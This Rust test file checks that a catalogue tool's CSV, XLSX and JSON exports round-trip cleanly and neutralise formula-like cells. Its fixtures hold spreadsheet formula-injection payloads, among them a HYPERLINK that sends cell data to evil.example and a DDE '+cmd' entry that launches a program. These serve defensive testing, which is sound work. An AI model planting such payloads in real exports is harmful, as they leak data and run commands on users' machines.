//! Exports read back: the same cells, the tool's columns recognised, formulas neutralised.

use std::io::{Cursor, Read};

use dualuse_catalogue::write::{export_headers, DATASET_DATE, STATUS};
use dualuse_catalogue::{
    detect_export, read_file, write_csv, write_json, write_xlsx, Delimiter, ReadOptions,
};

fn cells(values: &[&str]) -> Vec<String> {
    values.iter().map(|value| value.to_string()).collect()
}

/// A screened catalogue with the cells that attack spreadsheets, cells that only look
/// like them, and cells that stress quoting and encodings.
fn screened() -> (Vec<String>, Vec<Vec<String>>) {
    let headers = export_headers(&["Art.-Nr.", "Bezeichnung", "Preis"]);
    let rows = vec![
        cells(&[
            "PG-100",
            "Prüfgerät; \"Profi\"",
            "1.299,00",
            "check",
            "confirmed 3A001",
            "3A001.a; 3A991",
            "Lötstation\nmit Ständer",
            "2025-2003",
            "2025-11-14",
        ]),
        cells(&[
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
            "+cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(A1:A9)",
            "\t=1+1",
            "\r=1+1",
            "'already quoted",
            "-5",
            "-",
        ]),
        cells(&["", "", "", "no match", "", "", "", "", ""]),
    ];
    (headers, rows)
}

const FORMULAS: [&str; 6] = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
];

#[test]
fn csv_export_round_trip_with_both_delimiters() {
    let (headers, rows) = screened();
    for delimiter in [Delimiter::Comma, Delimiter::Semicolon] {
        let bytes = write_csv(&headers, &rows, delimiter).unwrap();
        assert!(
            bytes.starts_with(b"\xEF\xBB\xBF"),
            "UTF-8 with a BOM for Excel"
        );
        let text = String::from_utf8(bytes[3..].to_vec()).unwrap();
        for formula in FORMULAS {
            let quoted_formula = formula.replace('"', "\"\"");
            assert!(
                text.contains(&format!("'{formula}"))
                    || text.contains(&format!("\"'{quoted_formula}\"")),
                "{formula:?} is neutralised in {text}"
            );
        }
        let workbook = read_file(&bytes, "export.csv", ReadOptions::default()).unwrap();
        assert_eq!(workbook.delimiter, Some(delimiter));
        let table = &workbook.sheets[0];
        assert_eq!(table.headers, headers);
        assert_eq!(table.rows, rows, "the same cells come back");
        let columns = detect_export(&table.headers).expect("the export is recognised");
        assert_eq!(columns.user_columns, 3);
        assert_eq!(table.headers[columns.status], STATUS);
        assert_eq!(table.headers[columns.dataset_date], DATASET_DATE);
    }
}

fn sheet_xml(xlsx: &[u8]) -> String {
    let mut archive = zip::ZipArchive::new(Cursor::new(xlsx)).unwrap();
    let mut xml = String::new();
    archive
        .by_name("xl/worksheets/sheet1.xml")
        .unwrap()
        .read_to_string(&mut xml)
        .unwrap();
    xml
}

#[test]
fn xlsx_export_round_trip() {
    let (headers, rows) = screened();
    let bytes = write_xlsx(&headers, &rows, "Screening").unwrap();
    let xml = sheet_xml(&bytes);
    assert!(
        !xml.contains("<f>") && !xml.contains("<f "),
        "no formula cell: {xml}"
    );

    let workbook = read_file(&bytes, "export.xlsx", ReadOptions::default()).unwrap();
    assert_eq!(workbook.sheets.len(), 1);
    let table = &workbook.sheets[0];
    assert_eq!(table.sheet.as_deref(), Some("Screening"));
    assert_eq!(table.headers, headers);
    // Excel's quote prefix is a cell property: the value itself is unchanged.
    let expected: Vec<Vec<String>> = rows
        .iter()
        .map(|row| {
            // The reader cannot tell a row that ends in blank cells from a shorter one;
            // it pads, so the comparison is on the same width.
            let mut row = row.clone();
            row.resize(headers.len(), String::new());
            row
        })
        .collect();
    assert_eq!(table.rows, expected);
    assert!(detect_export(&table.headers).is_some());
}

#[test]
fn xlsx_export_marks_formula_like_cells_as_quoted_text() {
    let headers = cells(&["Name"]);
    let rows = vec![cells(&["=1+1"]), cells(&["plain"])];
    let bytes = write_xlsx(&headers, &rows, "Catalogue").unwrap();
    let mut archive = zip::ZipArchive::new(Cursor::new(bytes.as_slice())).unwrap();
    let mut styles = String::new();
    archive
        .by_name("xl/styles.xml")
        .unwrap()
        .read_to_string(&mut styles)
        .unwrap();
    assert!(styles.contains("quotePrefix=\"1\""), "{styles}");
    let xml = sheet_xml(&bytes);
    // The formula-like cell (A2) has a style; the plain one (A3) has none.
    assert!(xml.contains("<c r=\"A2\" t=\"inlineStr\" s="), "{xml}");
    assert!(xml.contains("<c r=\"A3\" t=\"inlineStr\"><is>"), "{xml}");
}

#[test]
fn json_export_is_an_array_of_objects_in_column_order() {
    let (headers, rows) = screened();
    let bytes = write_json(&headers, &rows).unwrap();
    let value: serde_json::Value = serde_json::from_slice(&bytes).unwrap();
    let objects = value.as_array().unwrap();
    assert_eq!(objects.len(), rows.len());
    assert_eq!(objects[1]["Art.-Nr."], rows[1][0].as_str());
    assert_eq!(objects[0]["Note"], "Lötstation\nmit Ständer");
    let text = String::from_utf8(bytes).unwrap();
    assert!(text.find("\"Art.-Nr.\"").unwrap() < text.find("\"Status\"").unwrap());
}
